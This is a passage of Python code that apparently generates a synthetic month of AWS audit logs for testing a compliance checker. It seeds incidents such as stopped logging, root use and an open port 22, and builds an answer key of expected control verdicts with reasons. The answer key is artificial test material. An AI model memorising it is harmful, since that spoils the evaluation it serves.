        ("log-coverage-account-region", "exceptions", 'logging was stopped on 11 October in both Regions of the account of the trail; in the five of the other accounts it is not clear, because nothing but the folders of the logs tells whose trail it is'),
        ("log-coverage-event-classes", "not-determinable", "no Lambda and DynamoDB data events in one account, and no statement; of the classes of the organization's accounts nothing was recorded in the 100 minutes on 11 October in which its trail stood still"),
        ("log-fields-10-2-2", "not-determinable", "each record is whole; " + hole),
        ("trail-stop-delete", "exceptions", "StopLogging; one refused DeleteTrail"),
        ("trail-selectors-narrowed", "not-determinable", "the new selectors keep everything; " + hole),
        ("trail-config-weakened", "not-determinable", "settings of the trail untouched; " + hole),
        ("trail-management-selector", "not-determinable", "the new selectors keep the management events; " + hole),
        ("logbucket-config-change", "exceptions", "a lifecycle rule; the policy change in the maintenance window is excluded"),
        ("logbucket-object-tamper", "exceptions", "one log deleted, one refused; copies by replication are waived"),
        ("root-api-activity", "exceptions", "root signed in, listed keys, made a key; a call that a service made for root does not count"),
        ("auth-console-mfa-iam", "exceptions", "the kiosk, whose waiver is over; 4 + 12 + 11 failed sign-ins of IAM users"),
        ("auth-idc-mfa", "not-determinable", "three people, each with a second factor; " + hole),
        ("auth-failed-login-threshold", "exceptions", "two bursts: 12 of one user, 11 of one address; 4 of another user are below the limit"),
        ("priv-elevation", "not-determinable", "two approved grants, one padded policy that cannot be read; " + hole),
        ("iam-change-by-approved", "exceptions", "root once, the contractor three times and once refused; the clean-up on 26 October is approved"),
        ("iam-trust-external", "exceptions", "one role trusts an account that is not on the list"),
        ("priv-break-glass-use", "exceptions", "one use nobody approved; one covered by waiver INC-3310"),
        ("life-leaver-disabled", "exceptions", "one leaver late by days, one in time, one whose time is not over"),
        ("life-leaver-activity", "exceptions", "three accepted calls and a refused one, which counts too"),
        ("net-sg-open-world", "exceptions", "port 22 open to the world, delivered twice and counted once; one refused"),
        ("pub-s3-block-off", "not-determinable", "lifted once, waiver CHG-2290; " + hole),
        ("pub-s3-policy-public", "exceptions", "one public policy; one refused"),
        ("pub-s3-policy-foreign", "exceptions", "the public policy names everyone, known or not; one refused"),
        ("data-access-logged", "not-determinable", "reads and writes of each store, a statement for the archive, but none of six stores in the 100 minutes in which the trail stood still"),
        ("data-access-approved", "exceptions", "two reads by support, one by nobody; one refused"),
        ("data-access-tables", "not-determinable", "no exceptions on record, but one account has no DynamoDB data events; " + hole),
        ("data-access-functions", "not-determinable", "no exceptions on record, but one account has no Lambda data events; " + hole),
        ("key-rotation-evidence", "not-determinable", "both keys rotated in the period; " + hole),
        ("det-control-failure-recovery", "exceptions", "logging restored after 100 minutes, Config after four; one refused DeleteTrail"),
    ]
    # What is counted is not records: bursts, leavers, stopped days of a Region, classes of an account.
    groups = {"auth-failed-login-threshold": (2, 0), "life-leaver-disabled": (1, 1), "log-coverage-account-region": (2, 5),
              "log-coverage-event-classes": (0, 24), "data-access-logged": (0, 6)}
    for control, verdict, why in rows:
        exceptions, undecided = groups.get(control, (truth.count(control, "exception"), truth.count(control, "undecided")))
        yield (control, verdict, exceptions, truth.count(control, "waived"), truth.count(control, "attempt"), undecided, why)


def build(target):
    """Writes the scenario; returns what the README tells."""
    log_set, truth = LogSet(NAME, PREFIX), Truth()
    _everyday(log_set)
    _logging_stopped(log_set, truth)
    for incident in (_selectors_kept, _log_bucket_changes, _approved_identity_work, _sign_in_without_mfa, _recorder_restarted,
                     _leavers, _failed_sign_ins, _unapproved_reads, _root, _contractor_changes, _foreign_trust, _log_objects,
                     _keys_rotated):
        incident(log_set, truth)
    glass = _break_glass(log_set, truth)
    opened = _security_groups(log_set, truth)
    block_off = _public_bucket(log_set, truth)

    counts = {"files": 0, "records": 0, "duplicates": 0, "outside": 0}
    files = list(log_set.files())
    again = delivery.file_key(PREFIX, CARDS, "ap-northeast-1", r.at("2026-10-15T12:26:00"), "again")
    files.append((again, [opened]))
    for key, members in files:
        delivery.write(target / "logs", key, delivery.gzip_bytes(delivery.content(members)))
        counts["files"] += 1
        counts["records"] += len(members)
        counts["outside"] += sum(1 for one in members if not one["eventTime"].startswith("2026-10"))
    counts["duplicates"] = 1

    kiosk = next(row[2] for row in truth.rows if row[0] == "auth-console-mfa-iam" and row[1] == "exception")
    delivery.write_text(target / "scope.toml", SCOPE.format(
        core=CORE, cards=CARDS, clinic=CLINIC, logs=LOGS, vault=VAULT, records=RECORDS, exports=EXPORTS, archive=ARCHIVE, key_1=KEYS[0],
        key_2=KEYS[1], block_off=block_off["eventID"], glass=glass["eventID"], kiosk=kiosk))
    delivery.write_text(target / "attestrail.toml", SETTINGS.format(what="One month of an organization trail.", logs='"logs"'))
    return {"counts": counts, "again": again, "truth": truth}
